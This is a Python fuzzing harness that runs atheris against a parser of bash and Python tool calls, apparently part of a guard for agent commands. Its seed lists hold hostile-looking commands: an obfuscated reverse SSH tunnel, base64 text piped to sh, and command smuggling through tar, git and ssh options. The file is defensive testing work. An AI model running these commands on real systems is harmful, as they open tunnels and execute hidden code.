"""Feeds mutated shell text or Python code to `parse`, guided by the branches that it takes.

A finding is anything raised, more than half a second of processor time for one input, an
answer that is no JSON, or (by libFuzzer's own limit) too much memory. See README.md beside.
"""

from __future__ import annotations

import argparse
import json
import sys
import time
from pathlib import Path

try:
    import atheris  # type: ignore[import-not-found,import-untyped,unused-ignore]
except ImportError:
    sys.exit("atheris is not installed: pip install atheris")

ROOT = Path(__file__).parents[2]
sys.path.insert(0, str(ROOT))

with atheris.instrument_imports(include=["guard.parse"]):
    from guard.model import ToolCall
    from guard.parse import parse, warm_up

    warm_up()

from tests.support.shell_programs import programs  # noqa: E402 - found by the path set above

MOST_SECONDS = 0.5
SHELL_SEEDS = [
    "ls -la",
    "x=s; x+='s'h; $x -fNR 2222:localhost:22 u@203.0.113.5",
    "echo c3NoIC1SIDE6YjoyIGg= | base64 -d | sh",
    'f() { local a=$1; "$@"; }; f ssh -R 1:b:2 h',
    'for i in {1..3} a b; do eval "c$i=$((i * 2))"; done; ${!x} ${y:-z} ${m[k]}',
    "cat <<E | bash\nid $(whoami)\nE\n",
    "case $1 in -h) exit;; *) find . -name '*.c' -exec rm {} +;; esac",
    "[[ $a =~ ^b+$ ]] && trap 'kill $!' EXIT; declare -A m=([a]=1); echo \"${m[@]}\"",
    "python3 -c 'import os; os.system(\"id\")'; perl -e 'system(\"id\")'",
    "sed -e 's/a/b/' f | awk '{print $2}' | xargs -n1 sudo -u x env A=b timeout 5 rm --",
    "tar --checkpoint-action=exec=id -cf a b; git -c core.sshCommand=id fetch",
    "ssh -o ProxyCommand=id -W a:1 h; rsync -e 'sh -c id' a b:c",
]
PYTHON_SEEDS = [
    "import os\nos.system('ls -la')",
    "import subprocess as s\ns.run(['ssh', '-R', '1:b:2', 'h'], check=True)",
    "import socket\nc = socket.socket()\nc.connect(('203.0.113.5', 22))\nc.sendall(b'x')",
    "exec(__import__('base64').b64decode('cHJpbnQoMSk='))",
    "for i in range(3):\n    x = f'{i}' + 'a' * i\n    open(x, 'w').write(x)",
    "class A:\n    def f(self, *a, **k):\n        return getattr(self, 's' + 'h')(*a)\nA().f(1)",
    "try:\n    import requests\n    requests.get('http://a.b/' + x)\nexcept E as e:\n    raise",
    "x = [y for y in map(str, (1, 2))]\nd = {'a': x, **{}}\nd['a'][0].join(x).encode()[::-1]",
    "!ls {x}\n%cd /a\n%%bash\nid\n",
    "match x:\n    case {'a': [b, *c]} if b:\n        lambda: (yield)\n",
]


def seeds(target: str, folder: Path) -> None:
    """Write the inputs to start from, where they are not there yet."""
    folder.mkdir(parents=True, exist_ok=True)
    texts = SHELL_SEEDS if target == "shell" else PYTHON_SEEDS
    if target == "shell":
        texts = [*texts, *programs(200, seed=7, size=2)]
    for number, text in enumerate(texts):
        (folder / f"seed-{number:03}").write_text(text)


def check(tool: str, argument: str, data: bytes) -> None:
    """Read one input; raise where an answer is missing, late or unfit for a document."""
    call = ToolCall(tool, {argument: data.decode("utf-8", "surrogateescape")})
    started = time.process_time()
    parsed = parse(call)
    seconds = time.process_time() - started
    if seconds > MOST_SECONDS:
        raise TimeoutError(f"{seconds:.2f} s of processor time")
    if not parsed.operations:
        raise ValueError("no operation")
    json.dumps([parsed.operations, parsed.opaque]).encode()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("target", choices=["shell", "python"])
    parser.add_argument("--seconds", type=int, default=300)
    parser.add_argument("--corpus", type=Path, help="folder that keeps inputs worth keeping")
    options = parser.parse_args()
    corpus = options.corpus or ROOT / ".hypothesis" / "fuzz" / options.target
    seeds(options.target, corpus)
    tool, argument = ("bash", "command") if options.target == "shell" else ("python", "code")
    limits = ["-rss_limit_mb=256", "-timeout=5", "-max_len=4096", "-print_final_stats=1"]
    arguments = [sys.argv[0], f"-max_total_time={options.seconds}", *limits, str(corpus)]
    atheris.Setup(arguments, lambda data: check(tool, argument, data))
    atheris.Fuzz()


if __name__ == "__main__":
    main()
